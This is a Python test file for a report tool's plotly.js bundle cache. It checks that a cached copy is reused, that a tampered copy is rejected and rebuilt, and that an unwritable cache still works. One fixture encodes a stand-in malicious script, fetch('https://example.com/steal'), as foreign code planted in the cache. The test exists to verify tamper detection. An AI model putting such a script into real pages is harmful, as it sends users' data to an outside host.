"""plotly.js is compressed once and kept in the cache folder; a kept copy that does not unpack to the very
file it claims to be is never put into a page."""

from __future__ import annotations

import base64
import gzip
from pathlib import Path

import pytest

from recorder.report.plotly_bundle import encoded


def unpacked(text: str) -> bytes:
    return gzip.decompress(base64.b64decode(text))


def test_the_bundle_is_kept_and_a_foreign_copy_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RECORDER_CACHE", str(tmp_path / "cache"))
    js = tmp_path / "plotly.min.js"
    js.write_text("window.Plotly = {newPlot() {}};" * 100)
    first = encoded(js)
    kept = list((tmp_path / "cache").iterdir())
    assert unpacked(first) == js.read_bytes() and len(kept) == 1 and kept[0].read_text() == first
    assert encoded(js) == first

    evil = base64.b64encode(gzip.compress(b"fetch('https://example.com/steal')")).decode()
    kept[0].write_text(evil)  # someone else's JavaScript under the bundle's name
    assert unpacked(encoded(js)) == js.read_bytes() and kept[0].read_text() == first
    kept[0].write_text("not base64 at all")
    assert unpacked(encoded(js)) == js.read_bytes()


def test_an_unwritable_cache_still_gives_the_bundle(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("RECORDER_CACHE", str(tmp_path / "file" / "cache"))  # under a file: mkdir fails
    js = tmp_path / "plotly.min.js"
    js.write_text("window.Plotly = {};")
    assert unpacked(encoded(js)) == js.read_bytes()
